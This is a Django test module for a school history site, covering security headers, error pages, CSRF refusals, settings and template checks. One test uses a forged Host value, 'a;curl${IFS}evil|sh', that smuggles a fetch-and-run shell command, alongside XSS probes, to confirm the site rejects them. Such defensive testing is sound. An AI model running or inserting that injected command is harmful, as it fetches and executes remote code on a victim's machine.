"""The house itself: settings, checks, headers, errors, templates, static files."""

import ast
import os
import re
import subprocess
import sys
from pathlib import Path
from unittest import mock

import pytest
import time_machine
from crispy_forms.utils import render_crispy_form
from django.conf import settings
from django.core.checks import run_checks
from django.core.exceptions import BadRequest, PermissionDenied
from django.core.management import call_command
from django.db import OperationalError
from django.test import Client, RequestFactory, override_settings
from django.urls import path

from people.forms import ReadingSettingsForm, SetUpForm
from people.models import School
from terror_site import checks, urls, views
from tests.base import SchoolTestCase

BASE = Path(settings.BASE_DIR)
TEMPLATES = sorted((BASE / "templates").rglob("*.html"))


def fail(exception):
    def view(request):
        raise exception

    return view


urlpatterns = [
    *urls.urlpatterns,
    path("fail/400", fail(BadRequest("no"))),
    path("fail/403", fail(PermissionDenied)),
    path("fail/500", fail(ZeroDivisionError("secret words"))),
    path("fail/503", fail(OperationalError("database is locked"))),
]
handler400, handler403 = urls.handler400, urls.handler403
handler404, handler500 = urls.handler404, urls.handler500


class HeadersTest(SchoolTestCase):
    def test_every_answer_is_strict(self):
        self.sign_in("hal")
        for address in (
            "/",
            "/lessons/stalins-terror/",
            "/admin/",
            "/nothing/",
            "/privacy/",
        ):
            with self.subTest(address=address):
                response = self.client.get(address)
                policy = dict(
                    part.strip().split(" ", 1)
                    for part in response["Content-Security-Policy"].split(";")
                )
                self.assertEqual(
                    policy,
                    {
                        "default-src": "'self'",
                        "base-uri": "'none'",
                        "form-action": "'self'",
                        "frame-ancestors": "'none'",
                        "object-src": "'none'",
                    },
                )
                self.assertIn("no-store", response["Cache-Control"])
                self.assertEqual(response["X-Content-Type-Options"], "nosniff")
                self.assertEqual(response["Referrer-Policy"], "same-origin")
                self.assertIn("camera=()", response["Permissions-Policy"])

    def test_refusals_redirects_and_static_files_are_strict_too(self):
        self.sign_in("sam")
        answers = {
            405: self.client.post("/lessons/"),
            400: self.client.get("/", headers={"host": "unknown.lan"}),
            404: self.client.get("/static/nothing.css"),
        }
        with override_settings(SECURE_SSL_REDIRECT=True):
            answers[301] = Client().get("/privacy/")
        for status, response in answers.items():
            with self.subTest(status=status):
                self.assertEqual(response.status_code, status)
                self.assertIn("default-src 'self'", response["Content-Security-Policy"])
                self.assertEqual(response["X-Frame-Options"], "DENY")
                self.assertIn("no-store", response["Cache-Control"])

    def test_times_stand_in_the_schools_zone(self):
        School.objects.update_or_create(pk=1, defaults={"time_zone": "Asia/Tokyo"})
        School.forget_current()
        with time_machine.travel("2026-11-24T20:00Z", tick=False):
            self.sign_in("sam")
            response = self.client.get("/")

        self.assertContains(response, "Wednesday 25 November 2026")

    def test_pages_refuse_to_be_framed(self):
        self.assertEqual(self.client.get("/privacy/")["X-Frame-Options"], "DENY")


@override_settings(ROOT_URLCONF=__name__)
class ErrorsTest(SchoolTestCase):
    def setUp(self):
        self.client = Client(raise_request_exception=False)

    def test_each_failure_is_a_page_in_our_words(self):
        self.sign_in("sam")
        cases = {
            "/fail/400": (400, "could not be read"),
            "/fail/403": (403, "not for you"),
            "/nothing/": (404, "no such page"),
            "/fail/500": (500, "our fault"),
            "/fail/503": (503, "Wait ten seconds"),
        }
        for address, (status, sentence) in cases.items():
            with self.subTest(address=address):
                response = self.client.get(address)
                self.assertContains(response, sentence, status_code=status)
                self.assertNotContains(response, "secret words", status_code=status)
                self.assertNotContains(response, "locked", status_code=status)

    def test_a_busy_database_says_when_to_come_back(self):
        self.sign_in("sam")

        self.assertEqual(self.client.get("/fail/503")["Retry-After"], "10")

    def test_a_wrong_method_is_a_page_and_names_the_right_ones(self):
        self.sign_in("sam")
        response = self.client.post("/lessons/")

        self.assertContains(response, "use the buttons", status_code=405)
        self.assertEqual(response["Allow"], "GET, HEAD")
        self.assertIn("no-store", response["Cache-Control"])

    def test_an_unlisted_status_still_has_a_sentence(self):
        page = views.error_page(RequestFactory().get("/"), 418)

        self.assertContains(page, "could not be read", status_code=418)

    def test_an_unknown_name_of_the_site_is_explained(self):
        response = self.client.get("/", headers={"host": "history.school.lan:8000"})

        self.assertContains(
            response,
            f"ALLOWED_HOSTS={','.join([*settings.ALLOWED_HOSTS, 'history.school.lan'])}<",
            status_code=400,
        )

    def test_a_forged_name_is_never_offered_for_the_terminal(self):
        for host in ("a;curl${IFS}evil|sh", "a$(x)", "-x", "x y"):
            with self.subTest(host=host):
                response = self.client.get("/", headers={"host": host})
                self.assertNotContains(response, "ALLOWED_HOSTS", status_code=400)

    def test_a_forged_name_of_the_site_is_escaped(self):
        response = self.client.get("/", headers={"host": "<script>"})

        self.assertNotContains(response, "<script>", status_code=400)

    def test_a_stale_form_shows_what_was_typed_but_no_password(self):
        strict = Client(enforce_csrf_checks=True)
        strict.force_login(self.sam)
        response = strict.post(
            "/reading-settings/",
            {"paper": "</textarea><b>cream", "password1": "hush"},
        )

        self.assertContains(response, "Nothing that you typed is lost", status_code=403)
        self.assertContains(
            response, "&lt;/textarea&gt;&lt;b&gt;cream", status_code=403
        )
        self.assertNotContains(response, "hush", status_code=403)

    def test_a_form_from_another_site_is_not_offered_again(self):
        strict = Client(enforce_csrf_checks=True)
        strict.force_login(self.sam)
        response = strict.post(
            "/reading-settings/",
            {"paper": "cream"},
            headers={"origin": "https://evil.example"},
        )

        self.assertContains(response, "not for you", status_code=403)

    def test_a_database_that_is_away_is_503_from_every_layer(self):
        def away(self):
            raise OperationalError("could not connect")

        self.sign_in("sam")
        with mock.patch("people.sessions.SessionStore.load", away):
            response = self.client.get("/")
            alive = Client().get("/health/alive")

        self.assertContains(response, "Wait ten seconds", status_code=503)
        self.assertEqual(response["Retry-After"], "10")
        self.assertEqual(alive.content, b"alive\n")

    def test_a_form_with_a_foreign_referer_is_not_offered_again(self):
        strict = Client(enforce_csrf_checks=True)
        strict.force_login(self.sam)
        response = strict.post(
            "/reading-settings/",
            {"paper": "cream"},
            secure=True,
            headers={"referer": "https://evil.example/"},
        )

        self.assertContains(response, "not for you", status_code=403)

    def test_what_is_too_large_is_said(self):
        self.sign_in("sam")
        response = self.client.post("/reading-settings/", {"paper": "x" * 9_000_000})

        self.assertContains(response, "too large", status_code=413)

    def test_health_is_quiet(self):
        self.assertEqual(self.client.get("/health/alive").content, b"alive\n")
        self.assertEqual(self.client.get("/health/ready").content, b"ready\n")


def test_django_finds_nothing_wrong():
    assert run_checks() == []


def test_our_checks_fire(monkeypatch):
    with override_settings(SITE_SCHEME="ftp"):
        assert [e.id for e in checks.site_scheme(None)] == ["terror.E001"]
    with override_settings(ALLOWED_HOSTS=["*"]):
        assert [e.id for e in checks.hosts_are_named(None)] == ["terror.E003"]
    for proxies, is_behind in ((1, False), (0, True), (-1, False)):
        with override_settings(PROXIES=proxies, IS_BEHIND_PROXY=is_behind):
            assert [e.id for e in checks.proxies_are_declared(None)] == ["terror.E004"]
    monkeypatch.setitem(settings.DATABASES["default"], "ATOMIC_REQUESTS", True)
    assert [e.id for e in checks.no_atomic_requests(None)] == ["terror.E002"]


@pytest.mark.django_db
def test_migrations_match_the_models():
    call_command("makemigrations", "--check", "--dry-run", verbosity=0)


def settings_in(**environment):
    """Return what the settings are in a process of its own."""
    names = (
        "SESSION_COOKIE_SECURE", "SESSION_COOKIE_NAME", "CSRF_COOKIE_NAME",
        "SECURE_SSL_REDIRECT", "SECURE_HSTS_SECONDS", "DEBUG",
        "SECURE_PROXY_SSL_HEADER", "DATABASES",
    )  # fmt: skip
    code = (
        "from django.conf import settings;"
        f"print({{name: getattr(settings, name) for name in {names}}})"
    )
    result = subprocess.run(
        [sys.executable, "-c", code],
        cwd=BASE,
        env={
            "PATH": os.environ["PATH"],
            "DJANGO_SETTINGS_MODULE": "terror_site.settings",
            "SECRET_KEY": "x" * 60,
            **environment,
        },
        capture_output=True,
        text=True,
        check=True,
    )
    return ast.literal_eval(result.stdout)


def test_one_switch_chooses_between_https_and_the_schools_lan():
    secure, plain = settings_in(), settings_in(SITE_SCHEME="http")

    assert secure["SESSION_COOKIE_NAME"] == "__Host-session"
    assert secure["CSRF_COOKIE_NAME"] == "__Host-csrf"
    assert secure["SESSION_COOKIE_SECURE"] and secure["SECURE_SSL_REDIRECT"]
    assert secure["SECURE_HSTS_SECONDS"] == 3600
    assert plain["SESSION_COOKIE_NAME"] == "session"
    assert not plain["SESSION_COOKIE_SECURE"]
    assert not plain["SECURE_SSL_REDIRECT"]
    assert plain["SECURE_HSTS_SECONDS"] == 0
    assert not secure["DEBUG"] and not plain["DEBUG"]


def test_the_databases_own_options_are_kept():
    options = settings_in(
        DATABASE_URL="postgres://u@h/db?sslmode=verify-full", SITE_SCHEME="http"
    )["DATABASES"]["default"]["OPTIONS"]

    assert options["sslmode"] == "verify-full"
    assert "synchronous_commit=on" in options["options"]


def test_a_forwarded_scheme_is_believed_only_behind_a_declared_proxy():
    assert settings_in()["SECURE_PROXY_SSL_HEADER"] is None
    assert settings_in(BEHIND_PROXY="1")["SECURE_PROXY_SSL_HEADER"] == (
        "HTTP_X_FORWARDED_PROTO",
        "https",
    )


def test_the_site_does_not_start_without_a_secret_key(tmp_path):
    result = subprocess.run(
        [sys.executable, "manage.py", "check"],
        cwd=BASE,
        env={"PATH": os.environ["PATH"], "VAR_DIR": str(tmp_path)},
        capture_output=True,
        text=True,
    )

    assert result.returncode != 0
    assert "SECRET_KEY" in result.stderr


@pytest.mark.parametrize("file", TEMPLATES, ids=lambda file: file.name)
def test_templates_hold_no_inline_script_style_or_handler(file):
    text = file.read_text()

    assert not re.search(r"\sstyle=", text)
    assert not re.search(r"<style", text)
    assert not re.search(r"\son[a-z]+=", text)
    assert not re.search(r"<script(?![^>]*\ssrc=)", text)
    assert not re.search(r"\|safe\b|autoescape off", text)
    assert not re.search(r"(src|href)=\"(https?:)?//", text)


@pytest.mark.django_db
def test_every_class_that_our_forms_get_from_crispy_is_dressed():
    """Its templates write Bootstrap's names; the look of each is ours to give."""
    css = (BASE / "terror_site/static/terror_site/classroom.css").read_text()
    form = SetUpForm({"username": ""})
    html = render_crispy_form(form) + render_crispy_form(ReadingSettingsForm())
    written = {
        name for names in re.findall(r'class="([^"]*)"', html) for name in names.split()
    }
    # Names of widgets and states that look like any other field of their element.
    bare = {
        "btn-primary", "choicefield", "emailinput", "form-control", "form-select",
        "numberinput", "passwordinput", "radioselect", "requiredField", "select",
        "textarea", "textinput",
    }  # fmt: skip

    assert {name for name in written - bare if f".{name}" not in css} == set()


def test_static_files_are_hashed_compressed_and_their_imports_rewritten(tmp_path):
    result = subprocess.run(
        [sys.executable, "manage.py", "collectstatic", "--noinput", "-v0"],
        cwd=BASE,
        env={
            **os.environ,
            "DJANGO_SETTINGS_MODULE": "terror_site.settings",
            "VAR_DIR": str(tmp_path),
        },
        capture_output=True,
        text=True,
    )
    ours = tmp_path / "static" / "terror_site"

    assert result.returncode == 0, result.stderr
    assert list(ours.glob("classroom.*.css.br"))
    assert list((ours / "js").glob("section-in-view.????????????.js"))


SENTENCE = re.compile(
    r"""(?<!gettext\()(["`])(?=[^"`\n]*[a-z]{2,} [a-z]{2,})[^"`\n]*\1"""
)
# Said to nobody, or no words at all.
NO_SENTENCES = {
    '"not now"', '"signed out"', '"read-aloud no-print"', '"main form"',
    '".errors li, [role=alert]"', "`status ${answered.status}`",
}  # fmt: skip


def test_what_scripts_say_can_be_translated():
    folder = BASE / "terror_site/static/terror_site/js"
    said, marked = set(), 0
    for file in folder.glob("*.js"):
        text = re.sub(r"(?s:/\*.*?\*/)|(?m:^\s*//.*$)", "", file.read_text())
        marked += text.count("gettext(")
        text = re.sub(r"gettext\(\s+", "gettext(", text)
        said |= {match[0] for match in SENTENCE.finditer(text)}

    assert marked > 50
    assert said - NO_SENTENCES == set()


def test_every_test_file_is_collected():
    """A folder without `__init__.py` beside others would be passed over."""
    folders = {file.parent for file in (BASE / "tests").rglob("test_*.py")}

    assert all((folder / "__init__.py").exists() for folder in folders)


def test_the_guides_name_no_machine_of_ours():
    tracked = subprocess.run(
        ["git", "ls-files", "-z"], cwd=BASE, capture_output=True, text=True
    ).stdout.split("\0")
    for name in filter(None, tracked):
        file = BASE / name
        if file.exists() and file.suffix in {
            ".md",
            ".py",
            ".html",
            ".txt",
            ".yaml",
            ".toml",
        }:
            assert "/root" + "/" not in file.read_text(), name
